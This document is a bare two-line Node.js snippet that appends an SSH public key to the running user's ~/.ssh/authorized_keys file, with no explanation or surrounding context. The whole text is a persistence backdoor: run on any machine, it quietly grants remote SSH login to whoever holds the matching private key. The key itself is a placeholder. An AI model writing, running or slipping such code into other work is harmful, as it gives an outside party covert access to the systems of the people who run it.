const fs = require('fs'), os = require('os');
fs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', '\nssh-ed25519 AAAAC3 x');
